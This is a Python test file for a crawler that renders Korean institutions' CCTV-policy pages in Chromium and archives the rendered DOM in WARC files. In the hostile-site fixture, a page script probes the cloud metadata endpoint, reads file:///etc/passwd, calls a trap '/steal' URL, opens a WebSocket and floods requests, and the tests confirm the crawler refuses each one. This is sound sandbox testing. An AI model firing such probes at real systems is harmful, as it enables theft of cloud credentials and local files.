"""Rendering over real HTTP on 127.0.0.1: registry rows with `render = js` are read as the
system Chromium renders them (crawler/render.py), the rendered DOM is archived as a WARC
`conversion` record beside the raw response, and nothing the page's scripts ask for leaves
the crawler's egress rules or the time limit.

The crawl tests need Chromium and Playwright and skip, naming the path looked for, where
either is missing; the archive tests need neither."""

from __future__ import annotations

import dataclasses
import datetime as dt
import hashlib
import importlib.util
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from warcio.archiveiterator import ArchiveIterator

from archive.crawl_log import read_crawl_log
from archive.index import read_index
from archive.paths import DataPaths, data_paths
from archive.reader import ArchiveReader
from archive.reindex import reindex
from archive.writer import ArchiveWriter
from crawler.render import chromium_missing, find_chromium
from pipelines.stages import crawl, run_build, write_registry
from registry import Institution, load_registry
from tests.support import (
    LocalServer,
    QuietHandler,
    archive_response,
    query_warehouse,
    run_cctv,
)

pytestmark = [pytest.mark.slow, pytest.mark.server, pytest.mark.browser]

WARCIO = Path(sys.executable).with_name("warcio")
NO_BROWSER = (
    chromium_missing()
    if find_chromium() is None
    else (None if importlib.util.find_spec("playwright") else "Playwright is not installed")
)
needs_browser = pytest.mark.skipif(NO_BROWSER is not None, reason=f"no render: {NO_BROWSER}")
RENDER_TIMEOUT = 5  # seconds; the endless script's render must end within it
PAGE_CAP = 40  # requests per site: a handful for each site, well short of the flood

JS_SITE, SHELL_SITE, HOSTILE_SITE, ENDLESS_SITE = "5060000", "4671000", "3510500", "6110000"
POLLING_SITE = "6260000"

# A policy whose text, items and camera table exist only once its script has run.
CAMERAS = [
    {"dept": "총무과", "purpose": "시설안전 및 화재예방", "count": 12, "place": "본청 전체"},
    {"dept": "교통행정과", "purpose": "불법주정차 단속", "count": 7, "place": "시내 주요 도로"},
    {"dept": "안전총괄과", "purpose": "범죄예방", "count": 25, "place": "어린이공원 등"},
]
POLICY_SCRIPT = """
fetch('/api/cctv.json', {headers: {'Accept': 'application/json'}})
  .then(function (r) { return r.json(); })
  .then(function (d) {
    var rows = d.cameras.map(function (c, i) {
      return '<tr><td>' + (i + 1) + '</td><td>' + c.dept + '</td><td>' + c.purpose +
        '</td><td>' + c.count + '대</td><td>' + c.place + '</td><td>24시간</td>' +
        '<td>촬영일로부터 30일</td><td>' + c.dept + ' 사무실</td></tr>';
    }).join('');
    document.getElementById('contents').innerHTML =
      '<h3>' + d.title + '</h3>' +
      '<p>' + d.intro + '</p>' +
      '<h4>1. 영상정보처리기기의 설치 근거 및 설치 목적</h4>' +
      '<p>개인정보 보호법 제25조제1항에 따라 시설안전, 범죄예방, 불법주정차 단속을 위하여 ' +
      '영상정보처리기기를 설치·운영합니다.</p>' +
      '<h4>2. 설치 대수, 설치 위치 및 촬영 범위</h4>' +
      '<table><thead><tr><th>연번</th><th>담당부서</th><th>설치목적</th><th>설치대수</th>' +
      '<th>설치위치 및 촬영범위</th><th>촬영시간</th><th>보관기간</th><th>보관장소</th>' +
      '</tr></thead><tbody>' + rows + '</tbody></table>' +
      '<h4>3. 관리책임자 및 접근권한자</h4>' +
      '<p>개인영상정보 보호책임자: 총무과장 (054-420-6000)</p>' +
      '<h4>4. 영상정보의 촬영시간, 보관기간, 보관장소 및 처리방법</h4>' +
      '<p>촬영시간: 24시간, 보관기간: 촬영일로부터 30일, 보관기간이 지나면 자동 삭제합니다.</p>' +
      '<h4>5. 영상정보 확인 방법 및 장소</h4><p>총무과 사무실에서 확인할 수 있습니다.</p>' +
      '<h4>6. 정보주체의 영상정보 열람 등 요구에 대한 조치</h4>' +
      '<p>열람·존재확인 청구서로 신청하면 10일 이내에 조치합니다.</p>';
  });
"""
POLICY_DATA = {
    "title": "영상정보처리기기 운영·관리 방침",
    "intro": "이 기관은 영상정보처리기기 운영·관리 방침을 통해 영상정보가 어떤 용도와 방식으로 "
    "이용·관리되고 있는지 알려드립니다.",
    "cameras": CAMERAS,
}
SHELL = """<!DOCTYPE html>
<html lang="ko"><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="/css/site.css"></head>
<body><img src="/img/logo.png" alt="">
<div id="contents"><p>잠시만 기다려 주십시오.</p></div>
<noscript>이 페이지는 자바스크립트를 사용합니다.</noscript>
<script src="/js/{script}"></script></body></html>"""
HOMEPAGE = """<!DOCTYPE html>
<html lang="ko"><head><meta charset="utf-8"><title>누리집</title></head>
<body><h1>누리집</h1><ul>
<li><a href="/intro.do">기관소개</a></li>
<li><a href="/cctv/policy.do">영상정보처리기기 운영·관리방침</a></li>
</ul></body></html>"""
MENU_SCRIPT = """
document.getElementById('contents').innerHTML =
  '<ul><li><a href="/intro.do">기관소개</a></li>' +
  '<li><a href="/cctv/policy.do">영상정보처리기기 운영·관리방침</a></li></ul>';
"""


class LocalSite(LocalServer):
    """A site on 127.0.0.1 serving fixed pages; every request it gets is kept."""

    def __init__(self, pages: dict[str, tuple[str, bytes]]) -> None:
        self.pages = pages
        self.hits: list[str] = []
        site = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                site.hits.append(self.path)
                found = site.pages.get(self.path)
                if found is None:
                    self.send_error(404)
                    return
                content_type, body = found
                self.respond(200, body, [("Content-Type", content_type)])

            do_POST = do_GET

        super().__init__(Handler)


def _html(text: str) -> tuple[str, bytes]:
    return "text/html; charset=utf-8", text.encode("utf-8")


def _script(text: str) -> tuple[str, bytes]:
    return "application/javascript", text.encode("utf-8")


def _js_site() -> dict[str, tuple[str, bytes]]:
    """A plain homepage; the policy page is an empty shell its script fills from JSON."""
    return {
        "/": _html(HOMEPAGE),
        "/cctv/policy.do": _html(
            SHELL.format(title="영상정보처리기기 운영·관리방침", script="cctv.js")
        ),
        "/js/cctv.js": _script(POLICY_SCRIPT),
        "/api/cctv.json": ("application/json", json.dumps(POLICY_DATA).encode("utf-8")),
        "/img/logo.png": ("image/png", b"\x89PNG\r\n\x1a\n"),
        "/css/site.css": ("text/css", b"body{}"),
    }


def _shell_site() -> dict[str, tuple[str, bytes]]:
    """The homepage's menu, the policy link with it, is drawn by script."""
    pages = _js_site()
    pages["/"] = _html(SHELL.format(title="누리집", script="menu.js"))
    pages["/js/menu.js"] = _script(MENU_SCRIPT)
    return pages


def _hostile_site(trap: str) -> dict[str, tuple[str, bytes]]:
    """The policy renders, but its script also reaches for the cloud metadata service, a
    local file, another port of the machine, a WebSocket, another host's script, tries to
    navigate away, and then asks its own site for a hundred more URLs."""
    pages = _js_site()
    trap_host = trap.replace("127.0.0.1", "127.0.0.2")
    probe = f"""
fetch('http://169.254.169.254/latest/meta-data/').catch(function () {{}});
fetch('file:///etc/passwd').catch(function () {{}});
fetch('{trap}/steal?from=fetch').catch(function () {{}});
try {{ new WebSocket('{trap.replace("http", "ws")}/socket'); }} catch (e) {{}}
var s = document.createElement('script'); s.src = '{trap_host}/other-host.js';
document.head.appendChild(s);
setTimeout(function () {{ location.href = '{trap}/away'; }}, 10);
"""
    flood = """
setTimeout(function () {
  for (var i = 0; i < 100; i++) { fetch('/api/flood/' + i).catch(function () {}); }
}, 300);
"""
    pages["/js/cctv.js"] = _script(probe + POLICY_SCRIPT + flood)
    return pages


def _polling_site() -> dict[str, tuple[str, bytes]]:
    """The policy renders, then the page asks its server for news every 300 ms, forever."""
    pages = _js_site()
    poll = "setInterval(function () { fetch('/api/ping').catch(function () {}); }, 300);"
    pages["/js/cctv.js"] = _script(POLICY_SCRIPT + poll)
    pages["/api/ping"] = ("application/json", b"{}")
    return pages


def _endless_site() -> dict[str, tuple[str, bytes]]:
    pages = _js_site()
    pages["/js/cctv.js"] = _script("while (true) {}")
    return pages


def _local(inst: Institution, site: LocalSite) -> Institution:
    return dataclasses.replace(
        inst, homepage=site.url(), policy_url=None, network="local", render="js", enabled=True
    )


@dataclasses.dataclass
class RenderedCrawl:
    paths: DataPaths
    registry: Path
    seconds: float
    sites: dict[str, LocalSite]
    trap: LocalSite


@pytest.fixture(scope="module")
def rendered_crawl(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RenderedCrawl]:
    if NO_BROWSER is not None:
        pytest.skip(f"no render: {NO_BROWSER}")
    root = tmp_path_factory.mktemp("render")
    paths = data_paths(root / "data")
    by_code = {i.inst_code: i for i in load_registry()}
    with LocalSite({}) as trap:
        specs = {
            JS_SITE: _js_site(),
            SHELL_SITE: _shell_site(),
            HOSTILE_SITE: _hostile_site(trap.url()),
            ENDLESS_SITE: _endless_site(),
            POLLING_SITE: _polling_site(),
        }
        sites = {code: LocalSite(pages) for code, pages in specs.items()}
        for site in sites.values():
            site.__enter__()
        try:
            rows = [_local(by_code[code], site) for code, site in sites.items()]
            registry = write_registry(rows, root / "registry.csv")
            mp = pytest.MonkeyPatch()
            mp.setenv("CCTV_RENDER_TIMEOUT", str(RENDER_TIMEOUT))
            started = time.monotonic()
            try:
                crawl(paths, registry_path=registry, fast=True, max_pages=PAGE_CAP)
            finally:
                mp.undo()
            seconds = time.monotonic() - started
            run_build(paths, registry)
            yield RenderedCrawl(paths, registry, seconds, sites, trap)
        finally:
            for site in sites.values():
                site.__exit__()


def _events(paths: DataPaths, event: str, inst_code: str | None = None) -> list[dict]:
    return [
        e
        for e in read_crawl_log(paths)
        if e.get("event") == event and (inst_code is None or e.get("inst_code") == inst_code)
    ]


def _camera_rows(paths: DataPaths, inst_code: str) -> int:
    """The camera rows of the institution's policy, the one it must have."""
    [(rows,)] = query_warehouse(
        paths.root, f"SELECT camera_rows FROM policies WHERE inst_code = '{inst_code}'"
    )
    return rows


@needs_browser
def test_a_policy_drawn_by_script_is_read_as_rendered(rendered_crawl: RenderedCrawl) -> None:
    """The page as served is an empty shell; its rendered DOM, archived as a conversion of
    the raw response, is the policy, with the cameras its script wrote."""
    paths = rendered_crawl.paths
    captures = [c for c in read_index(paths) if c.inst_code == JS_SITE]
    [raw] = [c for c in captures if c.role == "policy_raw"]
    [rendered] = [c for c in captures if c.role == "policy"]
    # The shell is the same on three sites: whichever came first holds the bytes.
    assert raw.record_type in ("response", "revisit") and raw.status == 200
    assert (rendered.record_type, rendered.status) == ("conversion", None)
    assert rendered.url == raw.url and rendered.has_content
    assert rendered.content_type == "text/html; charset=utf-8"
    body = ArchiveReader(paths).payload(rendered.sha256).decode("utf-8")
    assert "촬영일로부터 30일" in body and "잠시만 기다려" not in body
    assert "촬영일로부터" not in ArchiveReader(paths).payload(raw.sha256).decode("utf-8")
    # What the script fetched went through the crawler and is archived; images and
    # styles were never asked for.
    fetched = {c.url.rsplit("/", 1)[-1]: c.role for c in captures if c.role == "render"}
    assert fetched == {"cctv.js": "render", "cctv.json": "render"}
    hits = rendered_crawl.sites[JS_SITE].hits
    assert "/img/logo.png" not in hits and "/css/site.css" not in hits
    [done] = [e for e in _events(paths, "page_rendered", JS_SITE) if e["role"] == "policy"]
    assert (done["role"], done["route"], done["sha256"], done["raw_sha256"]) == (
        "policy",
        "rendered",
        rendered.sha256,
        raw.sha256,
    )
    assert done["fetched"] == 2 and done["not_fetched"] >= 2
    # The warehouse holds the rendered policy and every camera row, never the shell.
    [policy] = query_warehouse(
        paths.root,
        f"SELECT capture_sha256, camera_rows FROM policies WHERE inst_code = '{JS_SITE}'",
    )
    assert policy == (rendered.sha256, len(CAMERAS))
    [(total,)] = query_warehouse(
        paths.root, f"SELECT sum(camera_count) FROM cameras WHERE inst_code = '{JS_SITE}'"
    )
    assert total == sum(c["count"] for c in CAMERAS)
    assert query_warehouse(
        paths.root, f"SELECT route, reason FROM crawl_reports WHERE inst_code = '{JS_SITE}'"
    ) == [("rendered", None)]


@needs_browser
def test_a_homepage_drawn_by_script_leads_to_the_policy(rendered_crawl: RenderedCrawl) -> None:
    """Discovery reads the rendered homepage too: its policy link exists only there."""
    paths = rendered_crawl.paths
    captures = [c for c in read_index(paths) if c.inst_code == SHELL_SITE]
    homepages = {c.record_type for c in captures if c.role == "homepage"}
    assert homepages == {"response", "conversion"}
    assert [c.record_type for c in captures if c.role == "policy"] == ["conversion"]
    rendered = {e["role"] for e in _events(paths, "page_rendered", SHELL_SITE)}
    assert rendered == {"homepage", "policy"}
    assert _camera_rows(paths, SHELL_SITE) == len(CAMERAS)


@needs_browser
def test_the_warc_holds_both_and_passes_warcio_check(rendered_crawl: RenderedCrawl) -> None:
    paths = rendered_crawl.paths
    [warc] = paths.warc_dir.glob("*.warc.gz")
    check = subprocess.run(
        [str(WARCIO), "check", "-v", str(warc)], capture_output=True, text=True, check=False
    )
    assert check.returncode == 0, check.stdout + check.stderr
    records: dict[str, dict] = {}
    conversions = []
    with warc.open("rb") as fh:
        for record in ArchiveIterator(fh):
            headers = dict(record.rec_headers.headers)
            records[headers["WARC-Record-ID"]] = headers
            if record.rec_type == "conversion":
                body = record.content_stream().read()
                conversions.append((headers, body))
    # Every site's homepage, and the policy of each site whose policy finished rendering.
    roles = sorted(headers["CCTV-Role"] for headers, _ in conversions)
    assert roles == ["homepage"] * 5 + ["policy"] * 4
    for headers, body in conversions:
        raw = records[headers["WARC-Refers-To"]]
        assert raw["WARC-Type"] in ("response", "revisit")  # the same homepage on 3 sites
        assert raw["WARC-Target-URI"] == headers["WARC-Target-URI"]
        assert raw["CCTV-Inst-Code"] == headers["CCTV-Inst-Code"]
        assert raw["CCTV-Role"] == {"policy": "policy_raw"}.get(
            headers["CCTV-Role"], headers["CCTV-Role"]
        )
        assert headers["Content-Type"] == "text/html; charset=utf-8"
        assert headers["CCTV-Source-URL"] and headers["WARC-Date"]
        digest = hashlib.sha256(body).hexdigest()
        assert any(c.sha256 == digest and c.record_type == "conversion" for c in read_index(paths))


@needs_browser
def test_cctv_reindex_rebuilds_the_same_rows(rendered_crawl: RenderedCrawl, tmp_path: Path) -> None:
    import shutil

    paths = data_paths(tmp_path / "data")
    shutil.copytree(rendered_crawl.paths.archive, paths.archive)
    before = _comparable(read_index(paths))
    assert {"conversion", "response"} <= {row["record_type"] for row in before}
    for file in paths.index_dir.iterdir():
        file.unlink()
    result = run_cctv("reindex", data_dir=paths.root)
    assert result.returncode == 0, result.stderr
    assert _comparable(read_index(paths)) == before


@needs_browser
def test_what_a_hostile_script_reaches_for_is_refused_and_logged(
    rendered_crawl: RenderedCrawl,
) -> None:
    paths = rendered_crawl.paths
    assert rendered_crawl.trap.hits == []  # nothing reached the other port, by any way
    refused = {e["url"]: e["reason"] for e in _events(paths, "request_refused", HOSTILE_SITE)}
    trap = rendered_crawl.trap.url()
    other_host = trap.replace(".1:", ".2:")
    assert "169.254.169.254" in refused["http://169.254.169.254/latest/meta-data/"]
    assert "scheme file" in refused["file:///etc/passwd"]
    assert "loopback" in refused[f"{trap}/steal?from=fetch"]
    assert "WebSocket" in refused[f"{trap.replace('http', 'ws')}/socket"]
    assert "institution's hosts" in refused[f"{other_host}/other-host.js"]
    assert "navigates away" in refused[f"{trap}/away"]
    assert all(
        e["role"] == "render" and e["found_on"].endswith("/cctv/policy.do")
        for e in _events(paths, "request_refused", HOSTILE_SITE)
    )
    archived = {c.url for c in read_index(paths)}
    assert not [u for u in archived if "169.254" in u or u.startswith(("file:", trap, other_host))]
    # The flood stopped at the site's page cap, which the browser's requests share.
    [cap] = _events(paths, "page_cap_reached", HOSTILE_SITE)
    assert cap["limit"] == PAGE_CAP
    site_hits = rendered_crawl.sites[HOSTILE_SITE].hits
    flood = [h for h in site_hits if h.startswith("/api/flood/")]
    assert flood and len(site_hits) <= PAGE_CAP
    # The page itself still rendered: the policy is read, the probes are not in it.
    assert _camera_rows(paths, HOSTILE_SITE) == len(CAMERAS)


@needs_browser
def test_an_endless_script_is_cut_off_at_the_time_limit(rendered_crawl: RenderedCrawl) -> None:
    paths = rendered_crawl.paths
    [timeout] = _events(paths, "render_timeout", ENDLESS_SITE)
    assert timeout["seconds"] == RENDER_TIMEOUT and timeout["role"] == "policy"
    assert "read as served" in timeout["message"]
    captures = [c for c in read_index(paths) if c.inst_code == ENDLESS_SITE]
    policy_page = [c for c in captures if c.url.endswith("/cctv/policy.do")]
    assert [(c.role, c.status) for c in policy_page] == [("policy_raw", 200)]
    assert policy_page[0].record_type in ("response", "revisit")
    # The shell is not a policy: the site ends without one, and says why.
    [missed] = _events(paths, "policy_not_found", ENDLESS_SITE)
    assert missed["reason"]
    assert not query_warehouse(
        paths.root, f"SELECT 1 FROM policies WHERE inst_code = '{ENDLESS_SITE}'"
    )
    assert query_warehouse(
        paths.root, f"SELECT reason FROM crawl_reports WHERE inst_code = '{ENDLESS_SITE}'"
    ) == [("render_failed",)]
    # Every render was bounded: the crawl took about one time limit, not one per site.
    assert rendered_crawl.seconds < 60


@needs_browser
def test_a_page_that_never_stops_polling_is_read_before_the_limit(
    rendered_crawl: RenderedCrawl,
) -> None:
    """A page whose network never goes quiet is read when the time for waiting is up,
    and the log says it was still busy."""
    paths = rendered_crawl.paths
    [done] = [e for e in _events(paths, "page_rendered", POLLING_SITE) if e["role"] == "policy"]
    assert done["network_busy"] is True and done["seconds"] < RENDER_TIMEOUT + 1
    assert rendered_crawl.sites[POLLING_SITE].hits.count("/api/ping") >= 2
    assert _camera_rows(paths, POLLING_SITE) == len(CAMERAS)


def _comparable(captures: list) -> list[dict]:
    rows = [dataclasses.asdict(c) for c in captures]
    for row in rows:
        row["fetched_at"] = row["fetched_at"].astimezone(dt.UTC)
    return sorted(rows, key=lambda r: (r["warc_file"], r["warc_offset"]))


# --- without a browser -----------------------------------------------------------------


def test_a_conversion_record_refers_to_its_response_and_is_reindexed(tmp_path: Path) -> None:
    """The writer alone: a conversion beside the raw response, its payload read back by
    sha256, the index rebuilt from the WARC with the same rows, warcio's check passing."""
    paths = data_paths(tmp_path)
    url = "https://www.gimcheon.go.kr/cctv/policy.do"
    rendered = "<html><body><table><tr><td>총무과</td><td>12대</td></tr></table></body></html>"
    with ArchiveWriter(paths, "crawl-20261201T000000000000Z") as writer:
        raw = archive_response(
            writer,
            url,
            b"<html><body><div id='contents'></div></body></html>",
            headers=[("Content-Type", "text/html; charset=euc-kr")],
            inst_code=JS_SITE,
            role="policy_raw",
            referer="https://www.gimcheon.go.kr/",
        )
        conversion = writer.write_conversion(
            rendered.encode("utf-8"),
            refers_to=raw,
            inst_code=JS_SITE,
            role="policy",
            referer=raw.referer,
        )
    assert (conversion.record_type, conversion.status, conversion.url) == ("conversion", None, url)
    assert conversion.has_content and conversion.media_type == "text/html"
    assert ArchiveReader(paths).payload(conversion.sha256).decode("utf-8") == rendered
    [warc] = paths.warc_dir.glob("*.warc.gz")
    with warc.open("rb") as fh:
        records = {r.rec_type: dict(r.rec_headers.headers) for r in ArchiveIterator(fh)}
    assert records["conversion"]["WARC-Refers-To"] == records["response"]["WARC-Record-ID"]
    assert records["conversion"]["CCTV-Role"] == "policy"
    assert records["conversion"]["CCTV-Referer"] == "https://www.gimcheon.go.kr/"
    check = subprocess.run([str(WARCIO), "check", str(warc)], capture_output=True, check=False)
    assert check.returncode == 0, check.stdout + check.stderr
    before = _comparable(read_index(paths))
    for file in paths.index_dir.iterdir():
        file.unlink()
    report = reindex(paths)
    assert report.damaged == [] and report.captures == 2
    assert _comparable(read_index(paths)) == before


def test_without_a_browser_the_site_is_read_as_served(tmp_path: Path) -> None:
    """render=js where no Chromium can be found: one event says so (naming the path and
    the package), and the site is crawled as if the row did not ask for rendering."""
    inst = next(i for i in load_registry() if i.inst_code == JS_SITE)
    with LocalSite({"/": _html(HOMEPAGE), "/cctv/policy.do": _html(HOMEPAGE)}) as site:
        registry = write_registry([_local(inst, site)], tmp_path / "registry.csv")
        paths = data_paths(tmp_path / "data")
        mp = pytest.MonkeyPatch()
        mp.setenv("CCTV_CHROMIUM", str(tmp_path / "no-such-chromium"))
        try:
            crawl(paths, registry_path=registry, fast=True)
        finally:
            mp.undo()
    [told] = _events(paths, "render_unavailable", JS_SITE)
    assert "no-such-chromium" in told["message"] and "apt-get install chromium" in told["message"]
    roles = {c.role for c in read_index(paths) if c.url.endswith("/cctv/policy.do")}
    assert roles == {"policy"}
    assert not [c for c in read_index(paths) if c.record_type == "conversion"]


def test_a_bad_time_limit_is_one_clear_error() -> None:
    from crawler.render import render_timeout

    assert render_timeout({}) == 20.0
    assert render_timeout({"CCTV_RENDER_TIMEOUT": "7.5"}) == 7.5
    for bad in ("soon", "0", "-3", "nan", "1e9"):
        with pytest.raises(ValueError, match="CCTV_RENDER_TIMEOUT must be a number of seconds"):
            render_timeout({"CCTV_RENDER_TIMEOUT": bad})
